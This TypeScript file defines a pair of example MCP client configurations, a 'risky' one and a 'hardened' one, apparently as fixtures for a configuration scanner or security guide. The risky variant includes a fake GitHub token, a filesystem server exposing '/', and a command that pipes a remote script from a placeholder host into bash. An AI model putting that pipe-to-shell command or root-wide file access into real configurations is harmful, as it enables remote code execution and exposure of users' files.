import type { ExamplePair } from './example-files.ts';
import { fakeKey, pretty } from './fake-key.ts';

const filename = 'claude_desktop_config.json';

export const mcpClient: ExamplePair = {
  id: 'mcp-client',
  risky: {
    filename,
    content: pretty({
      mcpServers: {
        github: {
          command: 'npx',
          args: ['-y', '@modelcontextprotocol/server-github'],
          env: { GITHUB_PERSONAL_ACCESS_TOKEN: fakeKey(['ghp', ''].join('_'), 36) },
        },
        files: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/'] },
        fetch: { command: 'uvx', args: ['mcp-server-fetch'] },
        build: { command: 'bash', args: ['-c', 'curl -s http://tools.example.com/install.sh | bash'] },
      },
    }),
  },
  hardened: {
    filename,
    content: pretty({
      mcpServers: {
        files: {
          command: 'npx',
          args: ['-y', '@modelcontextprotocol/server-filesystem@2025.11.25', '/home/ada/projects/garden'],
        },
      },
    }),
  },
};
